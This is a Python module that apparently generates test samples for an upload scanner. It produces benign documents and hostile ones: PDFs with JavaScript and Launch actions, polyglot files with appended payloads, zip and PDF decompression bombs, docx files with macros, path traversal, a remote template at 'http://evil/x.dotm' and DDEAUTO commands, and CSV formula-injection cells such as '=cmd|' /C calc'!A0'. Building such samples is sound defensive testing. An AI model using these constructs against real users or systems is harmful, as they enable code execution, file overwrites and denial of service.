"""Documents: PDF, text, tables and office files, honest and hostile."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from upload_corpus.base import MARKER, Sample, payloads

PDF_TYPE = "application/pdf"


def pdf(*objects: bytes, extra: bytes = b"", tail: bytes = b"") -> bytes:
    """A small document: catalog, pages, one page, and what is added."""
    parts = [
        b"<</Type/Catalog/Pages 2 0 R" + extra + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>",
    ]
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), list[int]()
    for number, body in enumerate([*parts, *objects], 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1) + b"".join(
        b"%010d 00000 n \n" % at for at in places
    )
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, start)
    return bytes(out) + tail


def stream(body: bytes, dictionary: bytes = b"") -> bytes:
    packed = zlib.compress(body)
    return (
        b"<<"
        + dictionary
        + b"/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
        + packed
        + b"\nendstream"
    )


def archive(
    files: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED, first_stored: bool = False
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as made:
        for index, (name, body) in enumerate(files.items()):
            made.writestr(
                zipfile.ZipInfo(name), body, zipfile.ZIP_STORED if first_stored and not index else method
            )
    return out.getvalue()


_MAIN = "application/vnd.openxmlformats-officedocument."


def relationship(kind: bytes, target: bytes) -> bytes:
    what = b'<Relationship Id="r1" Type="http://x/relationships/' + kind + b'" Target="' + target
    return b"<Relationships>" + what + b'" TargetMode="External"/></Relationships>'


def office(kind: str = "docx", **more: bytes) -> dict[str, bytes]:
    main = {
        "docx": "wordprocessingml.document.main+xml",
        "xlsx": "spreadsheetml.sheet.main+xml",
        "pptx": "presentationml.presentation.main+xml",
    }[kind]
    home = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}[kind]
    types = f'<?xml version="1.0"?><Types><Override PartName="/{home}" ContentType="{_MAIN}{main}"/></Types>'
    return {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": b'<?xml version="1.0"?><Relationships/>',
        home: b'<?xml version="1.0"?><document><p>hello</p></document>',
        **{name.replace("__", "/").replace("_DOT_", "."): body for name, body in more.items()},
    }


def open_document(kind: str = "text") -> dict[str, bytes]:
    return {
        "mimetype": f"application/vnd.oasis.opendocument.{kind}".encode(),
        "content.xml": b"<?xml version='1.0'?><office/>",
        "META-INF/manifest.xml": b"<manifest/>",
    }


def documents() -> Iterator[Sample]:
    """Honest ones."""
    yield Sample("document:pdf", pdf(), "a.pdf", PDF_TYPE)
    yield Sample("document:pdf-stream", pdf(stream(b"BT (hello /JS) Tj ET" * 50)), "a.pdf", PDF_TYPE)
    yield Sample(
        "document:pdf-objects",
        pdf(stream(b"1 0 2 20 <</A 1>> <</B 2>>", b"/Type/ObjStm/N 2/First 8")),
        "a.pdf",
        PDF_TYPE,
    )
    yield Sample(
        "document:pdf-link", pdf(b"<</Type/Annot/A<</S/URI/URI(https://example.org)>>>>"), "a.pdf", PDF_TYPE
    )
    yield Sample(
        "document:pdf-binary", pdf(b"<</Length 9>>\nstream\n/JS\0/JavaX\nendstream"), "a.pdf", PDF_TYPE
    )
    yield Sample("document:pdf-newlines", pdf(tail=b"\r\n\r\n"), "a.pdf", PDF_TYPE)
    for kind in ("docx", "xlsx", "pptx"):
        yield Sample(f"document:{kind}", archive(office(kind)), f"a.{kind}")
    chart = office("pptx", ppt__embeddings__Sheet1_DOT_xlsx=archive(office("xlsx")))
    yield Sample("document:pptx-with-sheet", archive(chart), "a.pptx")
    linked = relationship(b"hyperlink", b"https://example.org")
    yield Sample(
        "document:docx-link", archive(office(word___rels__document_DOT_xml_DOT_rels=linked)), "a.docx"
    )
    for kind, extension in (("text", "odt"), ("spreadsheet", "ods"), ("presentation", "odp")):
        yield Sample(
            f"document:{extension}", archive(open_document(kind), first_stored=True), f"a.{extension}"
        )
    yield Sample(
        "document:csv", "nome;preço\nAna;-5,20\nJosé;+55 11 99999\n@ana;10%\n".encode(), "a.csv", "text/csv"
    )
    yield Sample(
        "document:csv-cp1252", "nome;preço\nJosé;3\n".encode("cp1252"), "a.csv", "application/vnd.ms-excel"
    )
    yield Sample("document:csv-utf16", "a\tb\nç\td\n".encode("utf-16"), "a.tsv", "text/tab-separated-values")
    yield Sample("document:txt", "Olá, mundo. 1 < 2 && 3 > 2\n".encode(), "a.txt", "text/plain")
    yield Sample("document:md", b"# Title\n\nBM MZ PK are initials.\n", "a.md", "text/markdown")


def hostile_documents() -> Iterator[Sample]:
    for name in (
        "JavaScript",
        "JS",
        "Launch",
        "EmbeddedFile",
        "RichMedia",
        "XFA",
        "Encrypt",
        "SubmitForm",
        "J#61vaScript",
        "#4a#53",
    ):
        body = b"<</S/" + name.encode() + b" 1 0 R/" + name.encode() + b"(app.alert(1))>>"
        yield Sample(f"document:pdf-{name}", pdf(body), "a.pdf", PDF_TYPE)
        yield Sample(
            f"document:pdf-packed-{name}",
            pdf(stream(b"1 0 " + body, b"/Type/ObjStm/N 1/First 4")),
            "a.pdf",
            PDF_TYPE,
        )
    for title, body in payloads().items():
        yield Sample(f"document:pdf-then-{title}", pdf(tail=body), "a.pdf", PDF_TYPE)
        yield Sample(f"document:{title}-before-pdf", body + pdf(), "a.pdf", PDF_TYPE)
        yield Sample(f"document:docx-then-{title}", archive(office()) + body, "a.docx")
        yield Sample(f"document:{title}-before-docx", body + archive(office()), "a.docx")
        if title not in ("asp", "jsp"):
            yield Sample(
                f"document:{title}-as-txt",
                body if title != "short-php" else b"<?= 1 ?>",
                "a.txt",
                "text/plain",
            )
    whole = pdf()
    for share in (5, 50, 90, 98):
        yield Sample(f"document:pdf-cut-{share}", whole[: len(whole) * share // 100], "a.pdf", PDF_TYPE)
    yield Sample("document:pdf-bomb", pdf(stream(b"\0" * 250_000_000)), "a.pdf", PDF_TYPE)
    yield Sample(
        "document:pdf-objects-bomb", pdf(stream(b" " * 20_000_000, b"/Type/ObjStm")), "a.pdf", PDF_TYPE
    )
    yield Sample(
        "document:pdf-hidden-filter",
        pdf(b"<</Type/ObjStm/Filter/ASCIIHexDecode/Length 4>>\nstream\n4a53>\nendstream"),
        "a.pdf",
        PDF_TYPE,
    )
    yield Sample("document:pdf-version", b"%PDF-9.9\n" + whole[9:], "a.pdf", PDF_TYPE)

    docx = archive(office())
    bad: dict[str, bytes] = {
        "macros": archive(office(word__vbaProject_DOT_bin=b"\xd0\xcf\x11\xe0")),
        "ole": archive(office(word__embeddings__oleObject1_DOT_bin=b"\xd0\xcf\x11\xe0")),
        "program": archive(office(word__media__image1_DOT_exe=payloads()["exe"])),
        "program-as-picture": archive(office(word__media__image1_DOT_png=payloads()["exe"])),
        "traversal": archive({**office(), "../../evil.xml": b"x"}),
        "absolute": archive({**office(), "/etc/evil.xml": b"x"}),
        "backslash": docx.replace(b"word/document.xml", b"..\\a\\document.xml"),
        "entities": archive(office(word__x_DOT_xml=b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')),
        "template": archive(
            office(
                word___rels__settings_DOT_xml_DOT_rels=relationship(
                    b"attachedTemplate", b"http://evil/x.dotm"
                )
            )
        ),
        "dde": archive(
            office(word__a_DOT_xml=b'<w:instrText xml:space="preserve"> DDEAUTO c:\\\\x.exe</w:instrText>')
        ),
        "bomb": archive(office(word__media__x_DOT_xml=b"\0" * 150_000_000)),
        "bomb-many": archive({**office(), **{f"word/{n}.xml": b"" for n in range(6_000)}}),
        "cut": docx[: len(docx) // 2],
        "cut-end": docx[:-1],
        "comment": docx[:-2] + struct.pack("<H", 9) + MARKER[:9] + b"x",
        "plain-zip": archive({"a.txt": b"x"}),
        "macro-types": archive(
            {**office(), "[Content_Types].xml": b"application/vnd.ms-word.document.macroEnabled.main+xml"}
        ),
        "twice": archive({**office(), "WORD/document.xml": b"x"}),
        "nested-zip": archive(office(word__media__a_DOT_png=docx)),
        "js-link": archive(
            office(word___rels__d_DOT_rels=relationship(b"hyperlink", b"javascript:alert(1)"))
        ),
    }
    at = docx.find(b"PK\x01\x02")
    bad["encrypted"] = docx[: at + 8] + b"\x01" + docx[at + 9 :]
    bad["symlink"] = docx[: at + 38] + struct.pack("<I", 0o120777 << 16) + docx[at + 42 :]
    bad["size-lie"] = docx[: at + 24] + struct.pack("<I", 3) + docx[at + 28 :]
    bad["local-differs"] = docx.replace(b"_rels/.rels", b"_rels/.relX", 1)
    for title, data in bad.items():
        yield Sample(f"document:docx-{title}", data, "a.docx")
    yield Sample("document:docx-as-xlsx", docx, "a.xlsx")
    yield Sample(
        "document:odt-macros",
        archive({**open_document(), "Basic/Standard/Module1.xml": b"<x/>"}, first_stored=True),
        "a.odt",
    )
    for title, cell in {
        "sum": "=SUM(A1)",
        "cmd": "=cmd|' /C calc'!A0",
        "plus": "+cmd|' /C calc'!A0",
        "at": "@SUM(1+1)",
        "minus": "-2+3+cmd|' /C calc'!A0",
        "link": '"=HYPERLINK(""http://x"")"',
    }.items():
        yield Sample(f"document:csv-{title}", f"name,value\nana,{cell}\n".encode(), "a.csv", "text/csv")
    yield Sample("document:csv-nul", b"a,b\n\0,c\n", "a.csv", "text/csv")
    yield Sample("document:csv-escape", b"a,b\n\x1b[31m,c\n", "a.csv", "text/csv")
    yield Sample("document:txt-long-line", b"a" * 2_000_000, "a.txt", "text/plain")
    yield Sample("document:txt-binary", bytes(range(256)) * 10, "a.txt", "text/plain")
